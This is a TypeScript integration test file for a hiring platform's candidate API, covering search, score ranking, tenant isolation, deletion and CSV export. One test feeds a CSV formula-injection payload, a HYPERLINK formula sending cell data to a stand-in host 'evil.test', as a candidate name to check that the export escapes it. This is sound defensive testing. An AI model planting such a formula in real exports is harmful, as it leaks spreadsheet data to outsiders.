import type { TEvaluation } from '@app/contracts';
import { parse } from 'csv-parse/sync';
import { eq, inArray } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createAssessment, signedInCandidate } from '../../../test/candidates';
import { createTestApp, signedInAdmin, type TestApp, TestClient, waitUntil } from '../../../test/helpers';
import { givePlan } from '../../../test/plans';
import { answerAndSubmit } from '../../../test/submit-all';
import { assessments, candidates, evaluations, submissions, user } from '../../db/schema';
import { TEST_IDS } from '../assessments/test-ids';

let t: TestApp;
let a: TestClient;
let b: TestClient;
let companyA: string;
let companyB: string;

const admin = (email: string, company?: string) =>
  signedInAdmin(t, email, company ? { name: company, industry: 'Retail' } : undefined);

async function seed(companyId: string, rows: { name: string; status?: string; withAccount?: boolean }[]) {
  const values = [];
  for (const [i, row] of rows.entries()) {
    let userId: string | null = null;
    if (row.withAccount) {
      const [u] = await t.context.db
        .insert(user)
        .values({
          id: `u-${companyId.slice(0, 8)}-${i}`,
          name: row.name,
          email: `${row.name.toLowerCase()}.${companyId.slice(0, 8)}@acc.test`,
        })
        .returning({ id: user.id });
      userId = u?.id ?? null;
    }
    values.push({
      companyId,
      fullName: row.name,
      email: `${row.name.toLowerCase()}@${companyId.slice(0, 8)}.test`,
      testStatus: row.status ?? 'pending',
      userId,
      createdAt: new Date(Date.UTC(2026, 0, 1, 0, 0, i)),
    });
  }
  return t.context.db
    .insert(candidates)
    .values(values)
    .returning({ id: candidates.id, fullName: candidates.fullName });
}

beforeAll(async () => {
  t = await createTestApp();
  const first = await admin('a@tenant-a.test', 'Tenant A');
  const second = await admin('b@tenant-b.test', 'Tenant B');
  a = first.client;
  b = second.client;
  companyA = first.companyId ?? '';
  companyB = second.companyId ?? '';
  // Deleting and exporting several candidates at once is an Enterprise feature (the Startup plan's 402 is
  // tested in branding.int.test.ts).
  await givePlan(t.context, companyA);
});
afterAll(() => t.close());

describe('candidates of a company', () => {
  it('lists only the own company, with search, status filter, sort and pagination', async () => {
    await seed(companyA, [
      { name: 'Asha', status: 'pending' },
      { name: 'Bilal', status: 'questions_generated' },
      { name: 'Chen', status: 'in_progress' },
      { name: 'Dara', status: 'submitted' },
      { name: 'Esme', status: 'completed' },
    ]);
    await seed(companyB, [{ name: 'Zed' }]);

    const all = (await a.get('/api/candidates')).json();
    expect(all.total).toBe(5);
    expect(all.items.map((c: { fullName: string }) => c.fullName)).toEqual([
      'Esme',
      'Dara',
      'Chen',
      'Bilal',
      'Asha',
    ]);
    expect(all.items[0]).toMatchObject({
      email: expect.stringContaining('esme@'),
      hasAccount: false,
      testStatus: 'completed',
    });

    const page2 = (await a.get('/api/candidates?sort=full_name&order=asc&pageSize=2&page=2')).json();
    expect(page2).toMatchObject({ total: 5, page: 2, pageSize: 2 });
    expect(page2.items.map((c: { fullName: string }) => c.fullName)).toEqual(['Chen', 'Dara']);

    expect(
      (await a.get('/api/candidates?search=BIL')).json().items.map((c: { fullName: string }) => c.fullName),
    ).toEqual(['Bilal']);
    expect((await a.get('/api/candidates?search=%25')).json().total).toBe(0); // % is matched literally
    expect((await a.get('/api/candidates?status=in_progress')).json().items).toHaveLength(1);
    expect((await a.get('/api/candidates?status=nope')).statusCode).toBe(400);
    expect((await a.get('/api/candidates?search=zed')).json().total).toBe(0);
  });

  it('ranks by overall score, the unscored last in either direction', async () => {
    const fresh = await admin('rank@tenant-rank.test', 'Tenant Rank');
    const companyId = fresh.companyId ?? '';
    const rows = await seed(companyId, [
      { name: 'Low' },
      { name: 'High' },
      { name: 'Unscored' },
      { name: 'Mid' },
      { name: 'Pending' },
    ]);
    const score = async (
      index: number,
      totalScore: number,
      status: 'completed' | 'needs_review' | 'pending',
    ) => {
      const candidateId = rows[index]?.id ?? '';
      const [submission] = await t.context.db
        .insert(submissions)
        .values({ candidateId, submissionNumber: 1, submissionData: {} })
        .returning({ id: submissions.id });
      await t.context.db
        .insert(evaluations)
        .values({ candidateId, submissionId: submission?.id ?? '', totalScore, evaluationStatus: status });
    };
    await score(0, 41.5, 'completed');
    await score(1, 92, 'completed');
    await score(3, 67, 'needs_review');
    // A total of a pending evaluation is not a score yet.
    await score(4, 99, 'pending');
    const order = async (query: string) =>
      (
        (await fresh.client.get(`/api/candidates?sort=score&${query}`)).json() as {
          items: { fullName: string; totalScore: number | null }[];
        }
      ).items.map((c) => [c.fullName, c.totalScore]);
    const desc = await order('order=desc');
    expect(desc.slice(0, 3)).toEqual([
      ['High', 92],
      ['Mid', 67],
      ['Low', 41.5],
    ]);
    expect(desc.slice(3).map((row) => row[1])).toEqual([null, null]);
    const asc = await order('order=asc');
    expect(asc.slice(0, 3)).toEqual([
      ['Low', 41.5],
      ['Mid', 67],
      ['High', 92],
    ]);
    expect(asc.slice(3).map((row) => row[1])).toEqual([null, null]);
    expect(new Set(desc.slice(3).map((row) => row[0]))).toEqual(new Set(['Pending', 'Unscored']));
    expect(
      (await fresh.client.get('/api/candidates?sort=score&pageSize=1&page=2')).json().items[0].fullName,
    ).toBe('Mid');

    // A score range leaves out the unscored (and a pending total), and counts what it shows.
    const range = async (query: string) => {
      const body = (await fresh.client.get(`/api/candidates?sort=score&order=desc&${query}`)).json();
      return { names: body.items.map((c: { fullName: string }) => c.fullName), total: body.total };
    };
    expect(await range('minScore=60')).toEqual({ names: ['High', 'Mid'], total: 2 });
    expect(await range('minScore=0')).toEqual({ names: ['High', 'Mid', 'Low'], total: 3 });
    expect(await range('minScore=40&maxScore=70')).toEqual({ names: ['Mid', 'Low'], total: 2 });
    expect(await range('minScore=0&pageSize=2')).toEqual({ names: ['High', 'Mid'], total: 3 });
    expect((await fresh.client.get('/api/candidates?minScore=101')).statusCode).toBe(400);
    // A bound far below what a score is stored with (real) reads as 0, not an error.
    expect(await range('minScore=5.9e-273&maxScore=7.4e-323')).toEqual({ names: [], total: 0 });
    expect(await range('minScore=67.004')).toEqual({ names: ['High', 'Mid'], total: 2 });
  });

  it('answers 404 for a candidate of another company on every candidate route, and changes nothing', async () => {
    const [foreign] = await seed(companyB, [{ name: 'Yara' }]);
    const id = foreign?.id ?? '';
    expect((await b.get(`/api/candidates/${id}`)).statusCode).toBe(200);
    for (const response of [
      await a.get(`/api/candidates/${id}`),
      await a.request('DELETE', `/api/candidates/${id}`),
    ]) {
      expect(response.statusCode).toBe(404);
      expect(response.json()).toEqual({ error: { code: 'NOT_FOUND', message: 'Candidate not found' } });
    }
    expect((await a.post('/api/candidates/bulk-delete', { ids: [id] })).json()).toEqual({ deleted: 0 });
    expect((await a.post('/api/candidates/export', { ids: [id] })).body).not.toContain('Yara');
    expect(await t.context.db.select().from(candidates).where(eq(candidates.id, id))).toHaveLength(1);
  });

  it('deletes a candidate with its account', async () => {
    const [row] = await seed(companyA, [{ name: 'Gone', withAccount: true }]);
    const id = row?.id ?? '';
    const before = (await a.get(`/api/candidates/${id}`)).json();
    expect(before.hasAccount).toBe(true);
    const [{ userId } = { userId: null }] = await t.context.db
      .select({ userId: candidates.userId })
      .from(candidates)
      .where(eq(candidates.id, id));
    expect((await a.request('DELETE', `/api/candidates/${id}`)).statusCode).toBe(204);
    expect((await a.get(`/api/candidates/${id}`)).statusCode).toBe(404);
    expect(
      await t.context.db
        .select()
        .from(user)
        .where(eq(user.id, userId ?? '')),
    ).toHaveLength(0);
  });

  it('bulk-deletes only the own candidates among the ids', async () => {
    const own = await seed(companyA, [{ name: 'Bulk1' }, { name: 'Bulk2' }]);
    const [other] = await seed(companyB, [{ name: 'Bulk3' }]);
    const ids = [...own.map((r) => r.id), other?.id ?? ''];
    const response = await a.post('/api/candidates/bulk-delete', { ids });
    expect(response.json()).toEqual({ deleted: 2 });
    const left = await t.context.db
      .select({ id: candidates.id })
      .from(candidates)
      .where(inArray(candidates.id, ids));
    expect(left.map((r) => r.id)).toEqual([other?.id]);
    expect((await a.post('/api/candidates/bulk-delete', { ids: [] })).statusCode).toBe(400);
  });

  it('exports the selection, or every candidate of the company, as CSV', async () => {
    const fresh = await admin('export@tenant-e.test', 'Tenant E');
    await givePlan(t.context, fresh.companyId ?? '');
    const rows = await seed(fresh.companyId ?? '', [
      { name: 'Exp1', status: 'questions_generated' },
      { name: 'Exp2' },
      { name: 'Exp3', status: 'submitted' },
    ]);
    await seed(companyB, [{ name: 'Outsider' }]);
    const selection = await fresh.client.post('/api/candidates/export', { ids: [rows[0]?.id, rows[2]?.id] });
    expect(selection.statusCode).toBe(200);
    expect(selection.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(selection.headers['content-disposition']).toMatch(
      /^attachment; filename="candidates-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    const lines = selection.body.replace('\uFEFF', '').trim().split('\r\n');
    expect(lines).toHaveLength(3);
    expect(lines[1]).toMatch(/^Exp1,exp1@.*,Ready,,/);
    expect(lines[2]).toMatch(/^Exp3,exp3@.*,Submitted,,/);

    const all = await fresh.client.post('/api/candidates/export', {});
    expect(all.body.trim().split('\r\n')).toHaveLength(4);
    expect(all.body).not.toContain('Outsider');
    expect((await fresh.client.post('/api/candidates/export', { ids: ['nope'] })).statusCode).toBe(400);
  });

  it("narrows the list and the export to one assessment and one stage, and never reaches another company's", async () => {
    const fresh = await admin('scope@tenant-s.test', 'Tenant S');
    const companyId = fresh.companyId ?? '';
    const [backend, sales] = await Promise.all([
      createAssessment(t, companyId, [TEST_IDS.bigFive]),
      createAssessment(t, companyId, [TEST_IDS.bigFive]),
    ]);
    const rows = await seed(companyId, [{ name: 'Ada' }, { name: 'Ben' }, { name: 'Cy' }]);
    const [ada, ben, cy] = rows.map((row) => row.id);
    await t.context.db
      .update(candidates)
      .set({ assessmentId: backend })
      .where(inArray(candidates.id, [ada ?? '', ben ?? '']));
    await t.context.db
      .update(candidates)
      .set({ assessmentId: sales })
      .where(eq(candidates.id, cy ?? ''));
    await t.context.db
      .update(candidates)
      .set({ stage: 'shortlisted' })
      .where(eq(candidates.id, ben ?? ''));

    const names = async (query: string) =>
      ((await fresh.client.get(`/api/candidates?${query}`)).json() as { items: { fullName: string }[] }).items
        .map((c) => c.fullName)
        .sort();
    expect(await names(`assessmentId=${backend}`)).toEqual(['Ada', 'Ben']);
    expect(await names(`assessmentId=${sales}`)).toEqual(['Cy']);
    expect(await names(`assessmentId=${backend}&stage=shortlisted`)).toEqual(['Ben']);
    expect(await names('stage=new')).toEqual(['Ada', 'Cy']);
    // The company-wide list names each candidate's opening.
    await t.context.db
      .update(assessments)
      .set({ name: 'Sales Associate — Pune' })
      .where(eq(assessments.id, sales));
    const everyone = (await fresh.client.get('/api/candidates?sort=full_name&order=asc')).json() as {
      items: { fullName: string; assessmentId: string; assessmentName: string | null }[];
    };
    expect(everyone.items.map((c) => [c.fullName, c.assessmentId, c.assessmentName])).toEqual([
      ['Ada', backend, 'Test assessment'],
      ['Ben', backend, 'Test assessment'],
      ['Cy', sales, 'Sales Associate — Pune'],
    ]);
    const listed = (
      await fresh.client.get(`/api/candidates?assessmentId=${backend}&stage=shortlisted`)
    ).json() as {
      items: { stage: string; source: string; deadlineAt: string | null }[];
    };
    expect(listed.items[0]).toMatchObject({ stage: 'shortlisted', source: 'upload', deadlineAt: null });
    // Another company's assessment id finds nothing; a malformed one or an unknown stage is a 400.
    expect(await b.get(`/api/candidates?assessmentId=${backend}`).then((r) => r.json().total)).toBe(0);
    expect((await fresh.client.get('/api/candidates?assessmentId=nope')).statusCode).toBe(400);
    expect((await fresh.client.get('/api/candidates?stage=promoted')).statusCode).toBe(400);

    const exported = await fresh.client.post('/api/candidates/export', { assessmentId: backend });
    expect(exported.statusCode).toBe(200);
    const lines = exported.body.replace('\uFEFF', '').trim().split('\r\n');
    expect(lines.slice(1).map((line) => line.split(',')[0])).toEqual(['Ada', 'Ben']);
    const foreign = await b.post('/api/candidates/export', { assessmentId: backend });
    expect(foreign.body.replace('\uFEFF', '').trim().split('\r\n')).toHaveLength(1);

    // One opening's export is named after it and says, per row, the opening, stage and source.
    const sold = await fresh.client.post('/api/candidates/export', { assessmentId: sales });
    const day = new Date().toISOString().slice(0, 10);
    expect(sold.headers['content-disposition']).toBe(
      `attachment; filename="sales-associate-pune-${day}.csv"`,
    );
    const [header, cyRow] = parse(sold.body.replace('\uFEFF', '')) as string[][];
    expect(header?.slice(-3)).toEqual(['Assessment', 'Stage', 'Source']);
    expect(cyRow?.slice(-3)).toEqual(['Sales Associate — Pune', 'New', 'CSV upload']);
    const everything = await fresh.client.post('/api/candidates/export', {});
    expect(everything.headers['content-disposition']).toBe(`attachment; filename="candidates-${day}.csv"`);
  });

  it("exports an evaluated candidate's evaluation status, section scores, CEFR level and time, formula-safe", async () => {
    const fresh = await admin('results@tenant-r.test', 'Tenant R');
    const companyId = fresh.companyId ?? '';
    const assessment = await createAssessment(t, companyId, [
      TEST_IDS.logicalReasoning,
      TEST_IDS.englishGrammar,
    ]);
    const name = '=HYPERLINK("http://evil.test/?"&A1,"Click")';
    const cand = await signedInCandidate(t, companyId, assessment, 'hyper@results.test', name);
    await seed(companyId, [{ name: 'Waiting' }]);
    await answerAndSubmit(t, cand, true);
    await waitUntil(async () => {
      const r = await fresh.client.get(`/api/evaluations/${cand.candidateId}`);
      return r.statusCode === 200 && ['completed', 'needs_review'].includes(r.json().evaluationStatus);
    }, 20_000);
    const evaluation: TEvaluation = (await fresh.client.get(`/api/evaluations/${cand.candidateId}`)).json();

    const csv = (await fresh.client.post('/api/candidates/export', {})).body;
    const [header, ...records] = parse(csv.replace('\uFEFF', '')) as string[][];
    const evaluated = records.find((r) => r[1] === 'hyper@results.test');
    const waiting = records.find((r) => r[0] === 'Waiting');
    expect(header).toEqual([
      'Name',
      'Email',
      'Phone',
      'Position',
      'Experience level',
      'Status',
      'Score',
      'Evaluation status',
      'Logical Reasoning',
      'English Grammar',
      'CEFR level (indicative)',
      'Time to complete (minutes)',
      'Added',
      'Submitted at',
      'Assessment',
      'Stage',
      'Source',
      // Library tests have norms: a percentile column each, empty with no earlier candidates.
      'Logical Reasoning percentile',
      'English Grammar percentile',
    ]);
    const cell = (row: string[] | undefined, column: string) => row?.[header?.indexOf(column) ?? -1];
    expect(cell(evaluated, 'Name')).toBe(`'${name}`);
    expect(cell(evaluated, 'Status')).toBe('Submitted');
    expect(cell(evaluated, 'Score')).toBe(evaluation.totalScore?.toFixed(1));
    expect(cell(evaluated, 'Evaluation status')).toBe('Completed');
    expect(cell(evaluated, 'Logical Reasoning')).toBe(
      evaluation.sectionScores['Logical Reasoning']?.toFixed(1),
    );
    expect(cell(evaluated, 'English Grammar')).toBe(evaluation.sectionScores['English Grammar']?.toFixed(1));
    expect(cell(evaluated, 'CEFR level (indicative)')).toBe(evaluation.evaluationData?.cefr?.level ?? '');
    expect(Number(cell(evaluated, 'Time to complete (minutes)'))).toBeGreaterThanOrEqual(0);
    expect(cell(evaluated, 'Time to complete (minutes)')).toMatch(/^\d+\.\d$/);
    expect(cell(evaluated, 'Submitted at')).toMatch(/^\d{4}-\d{2}-\d{2}T/);
    expect(cell(evaluated, 'Logical Reasoning percentile')).toBe('');
    expect(waiting?.slice(5, 12)).toEqual(['Pending', '', '', '', '', '', '']);
    expect(waiting?.slice(-2)).toEqual(['', '']);
  }, 60_000);

  it('summarises counts and the pipeline steps', async () => {
    const fresh = await admin('c@tenant-c.test', 'Tenant C');
    const empty = (await fresh.client.get('/api/candidates/summary')).json();
    expect(empty).toEqual({
      totalCandidates: 0,
      testsCompleted: 0,
      completionRate: 0,
      pipeline: {
        csvUpload: false,
        questionGeneration: false,
        credentialCreation: false,
        testDeployment: false,
      },
      usage: {
        plan: 'startup',
        planName: 'Startup',
        limit: 1_000,
        used: 0,
        pending: 0,
        remaining: 1_000,
        period: expect.stringMatching(/^\d{4}-\d{2}-01$/),
      },
    });
    await seed(fresh.companyId ?? '', [
      { name: 'P1', status: 'questions_generated', withAccount: true },
      { name: 'P2', status: 'submitted' },
      { name: 'P3', status: 'completed' },
    ]);
    expect((await fresh.client.get('/api/candidates/summary')).json()).toEqual({
      totalCandidates: 3,
      testsCompleted: 2,
      completionRate: 67,
      pipeline: {
        csvUpload: true,
        questionGeneration: true,
        credentialCreation: true,
        testDeployment: false,
      },
      // None of them waits for questions: nothing is pending against the plan.
      usage: expect.objectContaining({ used: 0, pending: 0, remaining: 1_000 }),
    });
  });

  it('refuses anonymous callers, candidates and admins without a company', async () => {
    expect((await new TestClient(t.app).get('/api/candidates')).statusCode).toBe(401);
    const lone = await admin('lone@nowhere.test');
    const response = await lone.client.get('/api/candidates');
    expect(response.statusCode).toBe(403);
    expect(response.json().error.message).toBe('Please ensure your profile is associated with a company.');
  });
});
